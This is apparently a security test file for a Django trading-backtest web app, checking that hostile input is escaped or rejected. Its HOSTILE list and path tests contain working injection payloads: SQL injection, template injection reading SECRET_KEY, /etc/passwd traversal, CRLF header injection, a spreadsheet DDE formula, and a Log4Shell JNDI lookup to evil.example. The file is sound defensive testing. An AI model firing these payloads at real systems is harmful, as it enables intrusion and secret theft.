"""Hostile text wherever a visitor can write some."""

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.utils.http import urlencode

from core.permissions import Scope
from dashboard.history.changes import save_run
from dashboard.tokens import issue_token
from jobs.models import Job, JobState
from strategies.backtests.parameters import BacktestParameters
from strategies.backtests.service import run_backtest

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
HOSTILE = [
    "' OR 1=1; DROP TABLE auth_user; --",
    "{{ settings.SECRET_KEY }}{% load x %}",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "a\r\nSet-Cookie: x=1",
    "\x00",
    SCRIPT,
    "=cmd|' /C calc'!A0",
    "A" * 5000,
    "\u202egpj.exe",
    "${jndi:ldap://evil.example/a}",
    "1e999",
    "NaN",
    "-0",
    "٣",
]
PARAMETERS = ("symbol", "start", "initial_investment", "rule", "fast", "horizon", "page", "search", "run")


def test_markup_in_what_people_write_is_shown_and_not_run(reader: Client, user: User) -> None:
    run = run_backtest(BacktestParameters(symbol="AAPL"))
    save_run(user, run.id, note=SCRIPT)
    issue_token(user, name=SCRIPT, scope=Scope.READ)
    Job.objects.create(kind="fetch_bars", subject="AAPL", state=JobState.FAILED, error=SCRIPT)
    shown = 0
    for address in ("/history/", f"/backtests/{run.id}/", "/account/", "/jobs/", "/"):
        page = reader.get(address).content.decode()
        assert SCRIPT not in page, address
        shown += "&lt;script&gt;alert(1)" in page
    assert shown >= 3


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_in_any_parameter_is_refused_politely(reader: Client, text: str) -> None:
    for address in ("/backtests/", "/forecasts/", "/history/", "/compare/", "/api/v1/instruments/AAPL/bars"):
        for name in PARAMETERS:
            answer = reader.get(f"{address}?{urlencode({'symbol': 'AAPL', name: text})}")
            assert answer.status_code < 500, (address, name)
            assert "Set-Cookie: x" not in str(answer.headers)
    for address in ("/api/v1/backtests", "/api/v1/forecasts"):
        for name in PARAMETERS:
            question = {"symbol": "AAPL", name: text}
            answer = reader.post(address, question, content_type="application/json")
            assert answer.status_code in {200, 201, 422}, (address, name)


@pytest.mark.parametrize(
    "path",
    [
        "/static/../site_config/settings.py",
        "/static/%2e%2e/site_config/settings.py",
        "/static//etc/passwd",
        "/backtests/..%2f..%2fetc%2fpasswd.json",
        "/reports/..%2f..%2fetc%2fpasswd/",
        "/report/..%2f..%2fetc%2fpasswd/",
        "/api/v1/reports/..%2f..%2fetc%2fpasswd.pdf",
        "/api/v1/instruments/..%2f..%2fetc%2fpasswd/bars",
        "/charts/..%2f..-x.json",
        "/backtests/%00.json",
        "/api/v1/instruments/%00",
        "/api/v1/instruments/%F0%9F%92%A9/bars",
    ],
)
def test_a_path_in_an_address_leads_nowhere(reader: Client, path: str) -> None:
    answer = reader.get(path)
    assert answer.status_code in {404, 422}
    assert b"root:" not in answer.content


@pytest.mark.parametrize("field", ["username", "password"])
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_in_the_login_is_a_failed_login(visitor: Client, field: str, text: str) -> None:
    answer = visitor.post("/login/", {"username": "reader", "password": "wrong", field: text})
    assert answer.status_code == 422


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_as_a_note_or_a_tokens_name_does_no_harm(reader: Client, text: str) -> None:
    run = run_backtest(BacktestParameters(symbol="AAPL"))
    for address, form in (
        (f"/backtests/{run.id}/save/", {"note": text}),
        ("/account/tokens/", {"name": text, "scope": "read"}),
        ("/account/tokens/", {"name": "x", "scope": text}),
    ):
        assert reader.post(address, form).status_code < 500, address


def test_a_file_sent_without_naming_its_type_reaches_the_import_whole(operator: Client) -> None:
    lines = ["date,open,high,low,close,volume", "2024-01-02,10,12,9,11,100"]
    answer = operator.post(
        "/api/v1/instruments/NEWCO/import",
        "\n".join(lines),
        content_type="application/x-www-form-urlencoded",  # what curl says of any data
    )
    assert answer.status_code == 201, answer.content
